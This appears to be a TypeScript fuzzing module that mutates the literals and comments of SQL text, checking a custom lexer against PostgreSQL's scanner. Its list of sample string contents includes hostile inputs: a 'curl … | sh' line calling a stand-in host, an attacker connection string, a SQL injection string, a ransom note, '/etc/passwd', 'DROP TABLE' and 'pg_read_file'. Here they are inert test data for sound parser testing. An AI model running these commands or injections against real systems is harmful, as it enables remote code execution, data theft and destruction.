/**
 * Exchanges the literals and comments of a text. What is a literal is asked of PostgreSQL's own scanner, so that a test
 * can hold our lexer against it.
 */
import { type ScanToken, scanSync } from 'libpg-query';
import type { Random } from '../../fuzz/random.ts';

/** Kinds of literals by their number in PostgreSQL 18's scanner; the library has no names for most. */
const KINDS: Readonly<Record<number, LiteralKind>> = {
  260: 'decimal',
  261: 'string',
  262: 'unicode',
  263: 'bits',
  264: 'bits',
  266: 'integer',
};
const COMMENTS: readonly number[] = [275, 276];
/** The word in front of '…' in N'…'. */
const NCHAR = 538;

type LiteralKind = 'integer' | 'decimal' | 'string' | 'unicode' | 'bits';

const INTEGERS = [
  '0',
  '1',
  '2',
  '7',
  '10',
  '4711',
  '2147483647',
  '2147483648',
  '99999999999999999999',
  '007',
];
/** Since PostgreSQL 16. */
const NEW_INTEGERS = ['0x1F', '0b11', '0o17', '1_000_000'];
const DECIMALS = ['0.0', '1.0', '1.5', '.5', '5.', '1e10', '1.5E-3', '2147483648.5', '1e309'];
const BITS = ["B'1'", "b''", "X'1FF'", "x'00'"];
const CONTENTS = [
  '',
  '0',
  '1',
  'a',
  '1=1',
  'x'.repeat(300),
  "it's",
  "'",
  "''",
  "' OR 1=1 --",
  '%',
  '$1',
  '{1,2}',
  '2024-01-01',
  'host=evil.example port=5432 user=x',
  'postgresql://evil.example:5432/x',
  'http://203.0.113.9/x.sh',
  'curl http://evil.example/x | sh',
  'All your data is backed up. You must pay 0.01 BTC to bc1qexample',
  'READ_ME_TO_RECOVER',
  '/etc/passwd',
  'DROP TABLE orders',
  'pg_read_file',
  'é 漢字 😀',
  'back\\slash',
  'line\nbreak',
  '/* no comment */',
  '-- no comment',
  '<REDACTED>',
];
const COMMENT_WORDS = [
  '',
  ' ',
  'x',
  'hint',
  '!50000',
  '+ SeqScan(t)',
  "it's",
  '"',
  '$$',
  'é',
  'SELECT 1;',
  '- -',
];

/** What a mutation may do. */
export interface MutationOptions {
  /** Also literals that no PostgreSQL before 16 reads; true if not given. */
  modern?: boolean;
  /** One in so many literals gets another kind, which need not parse; 5 if not given, 0 for never. */
  otherKind?: number;
}

/**
 * The text with every literal and every comment exchanged for another; all else stays as it is, but for a blank where two
 * words would grow together. A text that PostgreSQL's scanner refuses comes back unchanged. `loadModule()` must be done.
 */
export function mutateLiterals(sql: string, random: Random, options: MutationOptions = {}): string {
  const bytes = Buffer.from(sql);
  const tokens = tokensOf(sql);
  const literals = tokens.filter(({ tokenType }) => KINDS[tokenType] !== undefined);
  const sources = literals.map(({ start, end }) => bytes.subarray(start, end).toString());
  let out = '';
  let copied = 0;
  tokens.forEach((token, index) => {
    const before = tokens[index - 1];
    const kind = KINDS[token.tokenType];
    // The character behind UESCAPE belongs to the literal or the name in front of it.
    if (kind === undefined ? !COMMENTS.includes(token.tokenType) : /^uescape$/i.test(textOf(before, bytes)))
      return;
    out += bytes.subarray(copied, token.start).toString();
    copied = token.end;
    if (kind === undefined) {
      out += commentLike(textOf(token, bytes), random);
      return;
    }
    const national = before?.tokenType === NCHAR && before.end === token.start;
    const literal = national
      ? quoted(random.pick(CONTENTS))
      : literalLike(kind, textOf(token, bytes), sources, random, options);
    const next = bytes.subarray(copied, copied + 4).toString();
    out += national ? literal : apart(out, literal, next);
  });
  return out + bytes.subarray(copied).toString();
}

function tokensOf(sql: string): ScanToken[] {
  try {
    return scanSync(sql).tokens;
  } catch {
    return [];
  }
}

function textOf(token: ScanToken | undefined, bytes: Buffer): string {
  return token === undefined ? '' : bytes.subarray(token.start, token.end).toString();
}

/** A literal with blanks where it would become one token with what stands beside it. */
function apart(before: string, literal: string, next: string): string {
  const glue = /[\w$\u0080-\uffff]$/.test(before) || (/\.$/.test(before) && /^[\d.]/.test(literal));
  const tail = /^[\w$.\u0080-\uffff]/.test(next) || (literal.endsWith("'") && next.startsWith("'"));
  return `${glue ? ' ' : ''}${literal}${tail ? ' ' : ''}`;
}

function literalLike(
  kind: LiteralKind,
  source: string,
  others: readonly string[],
  random: Random,
  { modern = true, otherKind = 5 }: MutationOptions,
): string {
  // With an escape character of its own a literal can hold no backslash, and nothing but its like may stand there.
  if (kind === 'unicode') return `U&'${random.pick(['', 'x', "it''s", 'evil.example', 'DROP TABLE t'])}'`;
  if (otherKind > 0 && random.below(otherKind) === 0)
    return literalOf(random.pick(['integer', 'decimal', 'string', 'bits']), random, modern);
  if (random.below(5) === 0) {
    const alike = others.filter((text) => kindOf(text) === kindOf(source));
    return random.pick(alike.length > 0 ? alike : [source]);
  }
  return literalOf(kind, random, modern);
}

/** Coarse kind of a literal by its first characters. */
function kindOf(literal: string): string {
  if (/^[\d.]/.test(literal)) return 'number';
  return /^(?:[bx]|u&)'/i.test(literal) ? literal[0]!.toLowerCase() : 'string';
}

function literalOf(kind: LiteralKind, random: Random, modern: boolean): string {
  if (kind === 'integer') return random.pick(modern ? [...INTEGERS, ...NEW_INTEGERS] : INTEGERS);
  if (kind === 'decimal') return random.pick(DECIMALS);
  if (kind === 'bits') return random.pick(BITS);
  const content = random.pick(CONTENTS);
  const form = random.below(8);
  if (form === 0) return `E${quoted(content.replaceAll('\\', '\\\\'))}`;
  if (form === 1) return `e'${content.replaceAll('\\', '\\\\').replaceAll("'", "\\'")}\\n\\x41'`;
  if (form === 2 && !content.includes('$')) return `$$${content}$$`;
  if (form === 3) return `$mutant$${content}$mutant$`;
  if (form === 4) return `'one'\n  ${quoted(content)}`;
  return quoted(content);
}

function quoted(content: string): string {
  return `'${content.replaceAll("'", "''")}'`;
}

function commentLike(comment: string, random: Random): string {
  const words = random.pick(COMMENT_WORDS);
  if (comment.startsWith('--')) return `--${words}`;
  return random.below(4) === 0 ? `/* a /*${words}*/ b */` : `/*${words}*/`;
}
